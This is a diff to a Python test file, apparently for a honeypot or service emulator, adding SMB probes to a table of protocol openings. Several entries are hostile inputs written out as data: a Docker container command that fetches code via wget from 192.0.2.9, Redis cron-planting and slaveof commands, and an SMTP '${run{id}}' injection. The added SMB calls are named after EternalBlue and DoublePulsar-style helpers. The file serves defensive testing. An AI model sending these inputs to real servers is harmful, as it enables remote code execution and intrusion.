@@ -19,7 +19,7 @@ from eudaemon.wire import Purse
 from eudaemon.world.host import Host
 from eudaemon.world.outside import Downloaded
 from eudaemon.world.seed import Seed
-from protocols import ssh_client
+from protocols import smb_client, ssh_client
 from protocols.adb_client import CONNECT, frame
 
 HOST = Host.from_seed(Seed(b"test"))
@@ -42,6 +42,7 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
         b"POST /v1.41/containers/create HTTP/1.1\r\nHost: a\r\nContent-Length: 67\r\n\r\n", b'{"Image":"alpine",',
         b'"Cmd":["sh","-c","wget http://192.0.2.9/x ; id"]}', b"GET /containers/json HTTP/1.1\r\nHost: a\r\n\r\n",
     ),
+    "epmap": (smb_client.BIND_ALIVE[:20], smb_client.BIND_ALIVE[20:], smb_client.request(5, b"")[:20], bytes(4)),
     "front": (b"G", b"ET / HTTP/1.1\r\n"),
     "ftp": (
         b"USER ftp\r\n", b"PASS a\r\n", b"PASV\r\n", b"RNFR /etc\r\n", b"PORT 198,51,100,7,195,80\r\n", b"STOR x\r\n",
@@ -72,6 +73,11 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
         b"*2\r\n", b"$3\r\nGET\r\n$5\r\n", b"abcde\r\n", b"config set dir /etc/cron.d\r\n", b"set x '* * * * * id'\r\n",
         b"slaveof 192.0.2.9 1\r\nmodule load x\r\n", b"*2\r\n$11\r\nsystem.exec\r\n$15\r\nwget http://a/b\r\n",
     ),
+    "smb": (
+        smb_client.OPENING1[0][:40], smb_client.OPENING1[0][40:], *smb_client.OPENING1[1:], smb_client.look(),
+        smb_client.pulsar(0x23), smb_client.blue(bytes(9000))[0], smb_client.blue(bytes(9000))[1][:60],
+        smb_client.blue(bytes(9000))[1][60:], smb_client.negotiate2(0x0210), smb_client.login2(smb_client.hello()),
+    ),
     "smtp": (
         b"EHLO a\r\n", b"AUTH LOGIN\r\n", b"YQ==\r\n", b"YQ==\r\n", b"MAIL FROM:<a>\r\n",
         b"RCPT TO:<${run{id}}@b>\r\n",
@@ -100,7 +106,9 @@ WORDS = [
     b"AUTH PLAIN\r\n", b"STARTTLS\r\n", b"STLS\r\n", b"USER root\r\n", b"PASS root\r\n",
     b"1 LOGIN root {4+}\r\nroot\r\n", b"1 STARTTLS\r\n",
     b"1 APPEND INBOX {9}\r\n", b"1 UID FETCH 1:* (BODY[])\r\n", b"RETR 1\r\n", b"AHJvb3QAcm9vdA==\r\n", b"QUIT\r\n",
-    b"\x80\x0b" + bytes(22), b"\0\1\0\0\0\1\0\0set a 0 0 1\r\n1\r\n",
+    smb_client.look(), smb_client.pulsar(0xC8), *smb_client.OPENING1, smb_client.negotiate2(0x0202),
+    smb_client.login2(smb_client.hello()), smb_client.smb2(5, bytes(60)), smb_client.BIND_ALIVE, b"\xfeSMB", b"\xffSMB",
+    smb_client.request(3, bytes(8)), b"\x80\x0b" + bytes(22), b"\0\1\0\0\0\1\0\0set a 0 0 1\r\n1\r\n",
 ]  # fmt: skip
 
 FRONT = "front"  # no room of its own: telnet and HTTP on one port
